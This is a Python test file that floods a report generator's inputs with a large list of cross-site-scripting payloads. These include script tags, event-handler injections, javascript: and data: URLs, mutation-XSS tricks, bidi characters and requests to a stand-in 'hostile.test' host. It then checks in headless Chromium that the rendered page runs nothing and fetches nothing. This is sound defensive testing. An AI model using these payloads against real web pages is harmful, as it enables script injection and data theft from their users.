"""Hostile words in every place that a source can fill: the page that comes of them does nothing in a browser.

Tests 11 and 22 of a page's promises: no dialog, no script run, no request. The words go the whole way, through record,
assessment and brief, and are opened in Chromium as a file, once as shipped and once without the policy that would stop
a script in any case, so that the escaping alone is put to the test. A third page with the same words not escaped shows
that the test would see what it looks for.
"""

from __future__ import annotations

import hashlib
import html.parser
import http.server
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import msgspec
import pyarrow as pa
import pytest

from suasion.assess import assess
from suasion.assess.assessment import Assessment, MissingDatum
from suasion.brief import RecordLookup, render, verify, write
from suasion.codebook import OBSERVATION_SCHEMA, Contest, Problem, Source, Statement
from suasion.read import Overrides, take_in
from suasion.record import Record

CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None)
KHM = Contest(client="KHM", patrons=("JPN", "CHN"), first_year=2012, last_year=2022)

RUN = "document.documentElement.setAttribute('data-ran','{n}');alert({n})"
AWAY = "http://hostile.test/{n}"
# Where words may land: as text, in an attribute, in an element whose text is read otherwise, in a comment.
CONTEXTS = (
    "{}", '">{}', "'>{}", "`>{}", "</title>{}", "</style>{}", "</script>{}", "--><!-->{}", "]]>{}", "</desc></svg>{}",
    "</caption></table>{}", "<!--{}",
)  # fmt: skip
# What they would do there.
VECTORS = (
    "<script>{run}</script>", "<ScRiPt\t>{run}</sCrIpT >", "<script src={away}></script>", "<img src={away}>",
    '<img src=x onerror="{run}">', '<svg onload="{run}">', "<svg><script>{run}</script></svg>",
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>', "<svg><image href={away} />",
    '<svg><use href="{away}#x"/></svg>', '<svg><foreignObject><body onload="{run}">', '<body onload="{run}">',
    '<details open ontoggle="{run}">', '<input autofocus onfocus="{run}">', '<video src=x onerror="{run}">',
    "<audio src={away}>", '<iframe srcdoc="<script>parent.{run}</script>">', '<iframe src="javascript:parent.{run}">',
    "<iframe src={away}>", "<object data={away}>", "<embed src={away}>", "<link rel=stylesheet href={away}>",
    "<style>@import '{away}';*{background:url({away})}</style>", '<p style="background:url({away})">',
    "<base href={away}>", '<meta http-equiv=refresh content="0;url={away}">',
    "<form action={away}><input type=submit autofocus>", '<a href="javascript:{run}">x</a>',
    '<math><mtext></form><form><mglyph><style></math><img src=x onerror="{run}">',
    "<noscript><p title=\"</noscript><img src=x onerror='{run}'>\">",
    '<template><img src=x onerror="{run}"></template>', '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "' style='background:url({away})' x='", "{{ ''.__class__ }}{% for x in y %}{run}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=x onerror=&#34;{run}&#34;&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "[x](javascript:{run})",
    "\u202e<script>{run}</script>\u202c\u2066\u2069", "<\u200bscript>{run}</script>",
    "\x1b]8;;{away}\x07link\x1b]8;;\x07", "<img/src='{away}'/onerror={run}>\x7f\x9b31m",
)  # fmt: skip
ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "javascript&colon;{run}",
    "data:text/html,<script>{run}</script>", "vbscript:{run}", "file:///etc/passwd", "//hostile.test/{n}", "blob:x",
    'http://hostile.test/{n}" onfocus="{run}" autofocus x="', "https://hostile.test/{n}'><img src=x onerror={run}>",
    "https://hostile.test/\u202e{n}", "https://user@hostile.test:99999/", "http://[",
    "https://hostile.test/{n}<svg onload={run}>",
)  # fmt: skip
FORBIDDEN = re.compile(r"[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def corpus() -> list[str]:
    """Return every vector in every context, each with its number; those of one vector stand together."""
    words = [context.replace("{}", vector) for vector in VECTORS for context in CONTEXTS]
    return [_filled(one, n) for n, one in enumerate(words)]


def addresses() -> list[str]:
    return [_filled(one, n) for n, one in enumerate(ADDRESSES)]


def _filled(words: str, n: int) -> str:
    return words.replace("{run}", RUN.format(n=n)).replace("{away}", AWAY.format(n=n)).replace("{n}", str(n))


class Seen(NamedTuple):
    """What a browser made of a page: its document after loading, and what it asked the world for."""

    dom: str
    asked: tuple[str, ...]

    @property
    def ran(self) -> bool:
        return bool(re.search(r"<html[^>]*\bdata-ran=", self.dom))


class Tags(html.parser.HTMLParser):
    """Collects elements and attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.hrefs: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.hrefs |= {value or "" for name, value in attrs if name == "href"}


def parsed(text: str) -> Tags:
    tags = Tags()
    tags.feed(text)
    return tags


@pytest.fixture(scope="module")
def assessed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Record, Assessment]]:
    """A record in which every field that comes from outside is hostile, and its assessment."""
    folder = tmp_path_factory.mktemp("hostile")
    with Record.open(folder / "record.duckdb") as record:
        words, places = corpus(), addresses()
        for n in range(len(VECTORS)):
            _document(record, n, words[n * len(CONTEXTS) : (n + 1) * len(CONTEXTS)], places[n % len(places)])
        for one in words[:: len(words) // 3]:
            _taken_in(record, one, places[0])
        _rows(record)
        yield record, _elsewhere(assess(record, KHM, draws=64))


def _document(record: Record, n: int, words: list[str], address: str) -> None:
    """Add a document with hostile title, author, publisher, name and licence, and hostile statements."""
    quotes = [f"{one} gave ${12 * n + place + 1} million in aid" for place, one in enumerate(words)]
    text = f"Note {n}. " + " ".join(f"{quote}." for quote in quotes)
    data = text.encode()
    source = Source(
        kind="document", name=words[0], sha256=hashlib.sha256(data).hexdigest(), size=len(data),
        media_type="text/plain", title=words[1], publisher=words[2], author=words[3], licence=words[4],
        address=address, published="2022-03-29", text=text,
    )  # fmt: skip
    record.append_source(source, data)
    statements = []
    for place, (one, quote) in enumerate(zip(words, quotes, strict=True)):
        start = text.index(quote)
        shared = {
            "doc": one, "sentence": f"{quote}.", "quote": quote, "start": start, "end": start + len(quote),
            "actor_text": one, "recipient_text": one, "attribution": one, "reader": "test", "score": 0.9,
            "period": one,
        }  # fmt: skip
        pair, amount = {"actor": "JPN", "recipient": "KHM"}, (12 * n + place + 1) * 1e6
        statements += [
            Statement(n=3 * place, kind="flow", instrument="economic-aid", amount=amount, unit="USD",
                      modality="asserted", **pair, **shared),
            Statement(n=3 * place + 1, kind="want", instrument="military", modality="wanted", **pair, **shared),
            # One issue a document: each is placed for every party, which takes its time.
            Statement(n=3 * place + 2, kind="position", actor="KHM", issue=words[n % len(words)],
                      stance=1 if place % 2 else -1, modality="asserted", **shared),
        ]  # fmt: skip
    record.append_reading(source.id, "test", statements)


def _taken_in(record: Record, words: str, address: str) -> None:
    """Add a text through the reading room."""
    text = f"{words}\n\nJapan gave aid to Cambodia for many years, and both sides said that they would go on with it."
    known = Overrides(title=words, publisher=words, author=words, licence=words, published="2022-03-29")
    for document in take_in(text.encode(), name=f"{words}.txt", address=address, overrides=known):
        record.append_source(document.source, document.data)


def _rows(record: Record) -> None:
    """Add rows whose labels, items and places are hostile."""
    rows = [
        dict.fromkeys(OBSERVATION_SCHEMA.names)
        | {
            "row": words, "indicator": "oda-net", "actor": "JPN", "partner": "KHM", "label": words, "value": 1e7,
            "first_year": 2012 + n, "last_year": 2012 + n, "unit": "USD-2022", "status": "observed",
            "known": "2022-03-01",
        }
        for n, words in enumerate(corpus()[:10])
    ]  # fmt: skip
    data = repr(rows).encode()
    words = corpus()[4]
    source = Source(
        kind="dataset", name=words, sha256=hashlib.sha256(data).hexdigest(), size=len(data), media_type="text/csv",
        title=words, publisher=words, licence=words, citation=words, published="2022-03-01",
    )  # fmt: skip
    table = pa.Table.from_pylist([row | {"source": source.id} for row in rows], schema=OBSERVATION_SCHEMA)
    record.append_observations(source, data, table)


def _elsewhere(found: Assessment) -> Assessment:
    """Return an assessment with hostile words where only our own code writes today."""
    words = corpus()
    return msgspec.structs.replace(
        found,
        missing=tuple(MissingDatum(what=one, settles=one, where=one) for one in words),
        problems=tuple(Problem(input=one, place=one, reason=one) for one in words),
        contradictions=tuple(
            msgspec.structs.replace(one, topic=words[n % len(words)], why=words[-n % len(words)])
            for n, one in enumerate(found.contradictions)
        ),
        leverage=tuple(
            msgspec.structs.replace(one, leverage=msgspec.structs.replace(one.leverage, note=words[n], method=words[n]))
            for n, one in enumerate(found.leverage)
        ),
    )


@pytest.fixture(scope="module")
def page(assessed: tuple[Record, Assessment]) -> str:
    record, found = assessed
    brief = write(found, RecordLookup(record))
    return render(verify(brief, found, RecordLookup(record)).brief)


@pytest.fixture(scope="module")
def look(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """Return a way to open a page in Chromium with every request of it caught."""
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine")
    asked: list[str] = []

    class Catcher(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_CONNECT = do_POST = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Catcher)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def open_page(text: str) -> Seen:
        asked.clear()
        folder = tmp_path_factory.mktemp("page")
        file = folder / "brief.html"
        file.write_text(text, encoding="utf-8")
        command = [
            CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-component-update", "--no-first-run", f"--user-data-dir={folder / 'profile'}",
            f"--proxy-server=http://127.0.0.1:{server.server_port}", "--virtual-time-budget=2000", "--dump-dom",
            file.as_uri(),
        ]  # fmt: skip
        done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
        return Seen(done.stdout, tuple(path for path in asked if "hostile.test" in path))

    yield open_page
    server.shutdown()
    server.server_close()


def test_there_are_hostile_words_enough() -> None:
    assert len(set(corpus())) >= 400
    assert len(set(addresses())) >= 16


def test_all_hostile_words_are_on_the_page(page: str) -> None:
    for n in range(len(corpus())):
        assert f"data-ran&#39;,&#39;{n}&#39;" in page or f"hostile.test/{n}" in page, corpus()[n]


def test_a_hostile_page_runs_nothing_and_asks_for_nothing(look: Any, page: str) -> None:
    seen = look(page)
    assert not seen.ran
    assert seen.asked == ()


def test_escaping_alone_keeps_it_so_without_the_policy(look: Any, page: str) -> None:
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert bare != page
    seen = look(bare)
    assert not seen.ran
    assert seen.asked == ()
    tags = parsed(seen.dom)
    assert tags.tags == parsed(page).tags
    assert not {"script", "img", "iframe", "object", "embed", "form", "input", "base", "link", "use"} & tags.tags
    assert not {name for name in tags.attributes if name.startswith("on") or name in ("src", "srcdoc", "style")}
    assert all(href.startswith(("#", "http://", "https://")) for href in tags.hrefs)
    assert not FORBIDDEN.search(seen.dom)
    assert re.search(r"<title>Who has leverage over Cambodia, 2012 to 2022\?</title>", seen.dom)


def test_the_same_words_unescaped_would_be_seen_to_run_and_ask(look: Any) -> None:
    plain = [one.split(";alert")[0] + '">' for one in corpus()[4 * len(CONTEXTS) : 4 * len(CONTEXTS) + 1]]
    seen = look("<!doctype html><html><body>" + corpus()[3 * len(CONTEXTS)] + "".join(plain) + "</body></html>")
    assert seen.ran
    assert seen.asked
